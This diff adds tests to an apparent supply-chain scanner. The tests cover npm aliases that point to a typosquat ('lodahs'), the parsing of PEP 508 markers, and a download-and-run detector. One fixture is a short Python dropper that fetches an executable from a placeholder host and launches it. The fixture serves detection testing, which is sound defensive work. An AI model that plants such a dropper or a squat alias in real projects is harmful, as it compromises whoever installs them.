@@ -221,3 +221,54 @@ test('--online confirms dependencies against a registry (a fake one on loopback)
     server.close();
   }
 });
+
+test('npm aliases are judged by the package they install; a popular name aliased to a squat is the squat', () => {
+  const pkg = JSON.stringify(
+    {
+      name: 'x',
+      devDependencies: { fdir2: 'npm:fdir@2.1.0', 'old-types': 'npm:@types/node@18', lodash: 'npm:lodahs@1.0.0' },
+    },
+    null,
+    2,
+  );
+  const deps = parseManifest('package.json', pkg)!.deps.map((d) => `${d.line}:${d.name}@${d.spec}`);
+  assert.deepEqual(deps, ['4:fdir@2.1.0', '5:@types/node@18', '6:lodahs@1.0.0']);
+  const found = ids('package.json', pkg).filter((f) => /supply-chain\.(?:typo|combo)squat/.test(f));
+  assert.deepEqual(found, ['6:supply-chain.typosquat']);
+});
+
+test('PEP 508 markers with quoted values are one requirement, never names (pyproject, setup.py)', () => {
+  const toml = [
+    '[project]',
+    'name = "x"',
+    'dependencies = [',
+    `  "uvloop>=0.16.0; platform_system != 'Windows' and implementation_name != 'pypy'",`,
+    `  'tomli; python_version < "3.11"',`,
+    ']',
+  ].join('\n');
+  assert.deepEqual(
+    parseManifest('pyproject.toml', toml)!.deps.map((d) => d.name),
+    ['uvloop', 'tomli'],
+  );
+  const setup = `setup(install_requires=[\n    "colorama; sys_platform == 'win32' or os_name == 'nt'",\n])\n`;
+  assert.deepEqual(
+    parseManifest('setup.py', setup)!.deps.map((d) => d.name),
+    ['colorama'],
+  );
+});
+
+test('a module that takes URLs apart (urllib.parse) and opens one with os.startfile downloads nothing', () => {
+  const src = [
+    'import os',
+    'from urllib.parse import unquote',
+    'def launch(url):',
+    '    os.startfile(unquote(url))',
+  ].join('\n');
+  assert.deepEqual(
+    ids('pkg/termui.py', src).filter((f) => f.includes('download-and-run')),
+    [],
+  );
+  const dropper = src.replace('from urllib.parse import unquote', 'from urllib.request import urlretrieve');
+  const fetched = dropper + "\nurlretrieve('https://x.example/a.exe', 'a.exe')\nos.startfile('a.exe')\n";
+  assert.ok(ids('pkg/termui.py', fetched).some((f) => f.includes('download-and-run')));
+});
